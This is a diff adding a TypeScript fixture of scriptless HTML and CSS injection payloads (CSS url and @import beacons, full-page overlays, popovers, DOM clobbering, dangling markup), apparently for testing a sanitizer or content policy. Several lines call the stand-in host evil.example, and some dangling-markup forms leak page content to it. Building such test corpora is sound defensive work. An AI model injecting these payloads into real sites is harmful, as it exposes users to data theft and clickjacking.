@@ -1,0 +1,90 @@
+import { type Attack, asks, clobbers, leaves, passesCsp, runs, shows } from "./attack.ts";
+
+/** Attacks that need no script: styles, names, and markup that takes in the page's own. */
+export const lookAttacks = {
+  "style elements": [
+    asks("<style>@import 'https://evil.example/n';</style>"),
+    asks("<style>@import url(//evil.example/n);</style>"),
+    asks("<style>b{background:url(https://evil.example/n)}</style>"),
+    asks("<style>b{background:image-set('https://evil.example/n' 1x)}</style>"),
+    asks("<style>@font-face{font-family:x;src:url(https://evil.example/n)}b{font-family:x}</style>"),
+    asks(
+      "<style>b:first-letter{list-style:url(https://evil.example/n);display:list-item}b{list-style-image:url(https://evil.example/n);display:list-item}</style>",
+    ),
+    asks("<style>b[id^=o]{content:url(https://evil.example/n)}</style>"),
+    asks("<style>b::before{content:url(https://evil.example/n)}</style>"),
+    asks("<style>b{cursor:url(https://evil.example/n),auto;mask:url(https://evil.example/n)}</style>"),
+    shows("<style>*{display:none!important}</style>"),
+    shows("<style>b{visibility:hidden}</style>"),
+    shows("<style>b::after{content:'';position:fixed;inset:0}b{pointer-events:none}</style>"),
+    runs("<style>@keyframes k{}</style><p style='animation-name:k' onanimationstart=fired(n)>x</p>"),
+    runs(
+      "<style>p{transition:color 1ms}p:focus{color:red}</style><p tabindex=0 onfocus=fired(n) ontransitionend=fired(n)>x</p>",
+    ),
+  ],
+  "style attributes": [
+    asks("<p style='background:url(https://evil.example/n)'>x</p>"),
+    asks("<p style='background:url(&quot;//evil.example/n&quot;)'>x</p>"),
+    asks("<p style='background:\\75rl(https://evil.example/n)'>x</p>"),
+    asks("<p style='background:u/**/rl(x);background-image:image-set(\"https://evil.example/n\" 1x)'>x</p>"),
+    asks("<ul><li style='list-style-image:url(https://evil.example/n)'>x</ul>"),
+    asks("<p style='border-image:url(https://evil.example/n) 1'>x</p>"),
+    asks("<p style='--x:url(https://evil.example/n);background:var(--x)'>x</p>"),
+    shows("<p style='position:fixed;inset:0;z-index:9999'>x</p>"),
+    shows("<p style='position:absolute;top:0;left:0;width:100vw;height:100vh;margin:0'>x</p>"),
+    shows(
+      "<p style='float:left;width:99%;margin:-99px -900px -900px -99px;padding:99px 900px 900px;position:relative'>x</p>",
+    ),
+    shows(
+      "<a style='display:block;box-shadow:none;position:sticky;top:0;left:0;height:900px;margin-bottom:-900px;width:900px;z-index:9'>x</a>",
+    ),
+    shows("<p style='transform:scale(99);position:relative'>x</p>"),
+  ],
+  "dialogs and popovers": [
+    passesCsp(shows("<dialog open><table width=900 height=900><td></table></dialog>")),
+    shows("<div popover id=p style='width:100vw;height:100vh'>x</div><button popovertarget=p>x</button>"),
+    passesCsp(
+      shows("<div popover id=p><table width=900 height=900><td>x</table></div><button popovertarget=p>x</button>"),
+    ),
+    passesCsp(
+      shows(
+        "<dialog id=d><table width=900 height=900><td>x</table></dialog><button command=show-modal commandfor=d>x</button>",
+      ),
+    ),
+    runs("<div popover id=p onbeforetoggle=fired(n)>x</div><button popovertarget=p>x</button>"),
+    runs("<dialog id=d onclose=fired(n) open>x</dialog><button command=close commandfor=d>x</button>"),
+    runs("<details ontoggle=fired(n)><summary>x</summary></details>"),
+    runs("<p id=c oncommand=fired(n)>x</p><button command=--x commandfor=c>x</button>"),
+  ],
+  "DOM clobbering": [
+    clobbers("document.cookie", "<img name=cookie>"),
+    clobbers("document.body", "<img name=body>"),
+    clobbers("document.getElementById", "<img name=getElementById>"),
+    clobbers("document.querySelector", "<embed name=querySelector>"),
+    clobbers("document.currentScript", "<form name=currentScript></form>"),
+    clobbers("document.defaultView", "<object name=defaultView></object>"),
+    clobbers("document.forms.x", "<form name=x></form>"),
+    clobbers("trustedSite", "<a id=trustedSite>x</a>"),
+    clobbers("siteConfig", "<form id=siteConfig></form>"),
+    clobbers("siteConfig.hosts", "<a id=siteConfig></a><a id=siteConfig name=hosts></a>"),
+    clobbers("login.attributes", "<form id=login><input name=attributes></form>"),
+    clobbers("login.action", "<form id=login action=/><input name=action></form>"),
+    clobbers("login.parentNode", "<form id=login><button name=parentNode></button></form>"),
+    clobbers("secret", "<iframe name=secret srcdoc='x'></iframe>"),
+    runs("<form id=a><input name=attributes><input name=childNodes><img src='data:,' onerror=fired(n)></form>"),
+  ],
+  "dangling markup": [
+    asks("<img src='https://evil.example/n?", "document"),
+    asks("<img src='https://evil.example/n?x=<p>'>", "document"),
+    passesCsp(shows("<textarea>", "document")),
+    passesCsp(shows("<title>", "document")),
+    passesCsp(shows("<!--", "document")),
+    passesCsp(shows("<select><option>", "document")),
+    passesCsp(shows("<noembed>", "document")),
+    passesCsp(shows("<template>", "document")),
+    passesCsp(shows("<p title='", "document")),
+    passesCsp(shows("<details><p>", "document")),
+    leaves("<form action='https://evil.example/n'><button>x</button><textarea name=x>", "document"),
+    leaves("<form action='https://evil.example/n'><button name=x value='", "document"),
+  ],
+} as const satisfies Readonly<Record<string, readonly Attack[]>>;
